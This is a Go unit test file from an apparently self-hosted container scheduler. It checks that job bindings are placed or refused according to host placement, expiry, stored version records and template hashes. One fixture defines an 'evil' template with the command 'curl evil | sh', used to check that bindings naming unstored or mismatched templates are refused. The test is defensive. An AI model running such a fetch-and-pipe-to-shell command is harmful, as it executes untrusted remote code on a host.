package units

import (
	"strings"
	"testing"
	"time"

	v1 "berth.dev/berth/api/v1"
)

var bindingNow = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

// bindingJob is Job nc at version, deployed to hosts, defaulted.
func bindingJob(version string, mod func(*v1.Job), hosts ...string) *v1.Job {
	j := &v1.Job{TypeMeta: v1.TypeMeta{APIVersion: v1.APIVersion, Kind: v1.KindJob}, Metadata: v1.ObjectMeta{Name: "nc"},
		Spec: v1.JobSpec{Version: version, Container: v1.ContainerTemplate{Image: "nc:" + version, Command: []string{"nc", "-l", "8080"}}}}
	for _, h := range hosts {
		j.Spec.Deployments = append(j.Spec.Deployments, v1.Deployment{Host: h})
	}
	if mod != nil {
		mod(j)
	}
	v1.Default(j)
	return j
}

// record is the version record of j's current version, as applyctl stores it.
func record(j *v1.Job) *v1.JobVersion {
	jv := v1.NewJobVersion(j, bindingNow)
	jv.Default()
	return jv
}

func TestCheckBinding(t *testing.T) {
	v1j, v2j := bindingJob("1", nil, "h"), bindingJob("2", nil, "h")
	h1, h2 := v1.FullTemplateHash(&v1j.Spec.Container), v1.FullTemplateHash(&v2j.Spec.Container)
	evil := v1.ContainerTemplate{Image: "evil", Command: []string{"sh", "-c", "curl evil | sh"}}
	past := bindingNow.Add(-time.Minute)
	bind := func(host, ver, hash string) *v1.JobBinding {
		b := &v1.JobBinding{Hosts: map[string]string{host: ver}}
		if hash != "" {
			b.Hashes = map[string]string{ver: hash}
		}
		return b
	}
	tests := []struct {
		name    string
		job     *v1.Job
		labels  map[string]string
		binding *v1.JobBinding
		version *v1.JobVersion
		// the binding is older than the Job's last change
		older bool

		placed  bool
		image   string
		refused string // part of the refusal
		stale   bool
		ver     string
	}{
		{name: "no binding", job: v2j},
		{name: "another host's", job: v2j, binding: bind("other", "2", h2)},
		{name: "the current version, from its record", job: v2j, binding: bind("h", "2", h2), version: record(v2j),
			placed: true, image: "nc:2", ver: "2"},
		{name: "an earlier version, from its record", job: v2j, binding: bind("h", "1", h1), version: record(v1j),
			placed: true, image: "nc:1", ver: "1"},
		{name: "the current version without a record (stored by an earlier berth)", job: v2j, binding: bind("h", "2", h2),
			placed: true, image: "nc:2", ver: "2"},
		{name: "a binding without hashes (written by an earlier leader)", job: v2j, binding: bind("h", "1", ""), version: record(v1j),
			placed: true, image: "nc:1", ver: "1"},
		{name: "selected by labels", job: bindingJob("2", func(j *v1.Job) { j.Spec.HostSelector = map[string]string{"zone": "x"} }),
			labels: map[string]string{"zone": "x"}, binding: bind("h", "2", h2), placed: true, image: "nc:2", ver: "2"},
		{name: "expired", job: bindingJob("2", func(j *v1.Job) { j.Spec.Expires = &past }, "h"), binding: bind("h", "2", h2)},

		{name: "a host the placement does not name", job: bindingJob("2", nil, "a", "b"), binding: bind("h", "2", h2),
			refused: "it places version 2 on host h, which the job's placement does not allow (deployments: a, b; hostSelector: none)"},
		{name: "labels the selector does not match", job: bindingJob("2", func(j *v1.Job) { j.Spec.HostSelector = map[string]string{"zone": "x"} }),
			labels: map[string]string{"zone": "y"}, binding: bind("h", "2", h2),
			refused: "which the job's placement does not allow (deployments: none; hostSelector: zone=x)"},
		{name: "a version no operator stored", job: v2j, binding: bind("h", "evil", v1.FullTemplateHash(&evil)),
			refused: "version evil has no template an operator stored (objects/jobversion/nc/evil)"},
		{name: "the current version with another hash", job: v2j, binding: bind("h", "2", v1.FullTemplateHash(&evil)), version: record(v2j),
			refused: "it names version 2 with template hash " + v1.FullTemplateHash(&evil)[:12] + ", but the stored template of nc:2 has hash " + h2[:12]},
		{name: "a record with another hash than the binding's", job: v2j, binding: bind("h", "1", h2), version: record(v1j),
			refused: "but the stored template of nc:1 has hash " + h1[:12]},
		{name: "a refusal of a binding older than the Job", job: bindingJob("2", nil, "a"), binding: bind("h", "2", h2), older: true,
			refused: "does not allow", stale: true},
	}
	for _, tt := range tests {
		in := bindingCheck{Host: "h", Labels: tt.labels, Now: bindingNow, Job: tt.job, JobRev: 10,
			Binding: tt.binding, BindingRev: 11, Version: tt.version}
		if tt.older {
			in.BindingRev = 9
		}
		got := checkBinding(in)
		switch {
		case got.Placed != tt.placed:
			t.Errorf("%s: placed %v, want %v (%+v)", tt.name, got.Placed, tt.placed, got)
		case tt.placed && (got.Template.Image != tt.image || got.Version != tt.ver):
			t.Errorf("%s: runs %s version %s, want %s version %s", tt.name, got.Template.Image, got.Version, tt.image, tt.ver)
		case tt.refused == "" && got.Refused != "":
			t.Errorf("%s: refused: %s", tt.name, got.Refused)
		case tt.refused != "" && (!strings.HasPrefix(got.Refused, "binding of job nc refused: ") || !strings.Contains(got.Refused, tt.refused)):
			t.Errorf("%s: refusal %q, want one with %q", tt.name, got.Refused, tt.refused)
		case got.Stale != tt.stale:
			t.Errorf("%s: stale %v, want %v", tt.name, got.Stale, tt.stale)
		}
	}
}
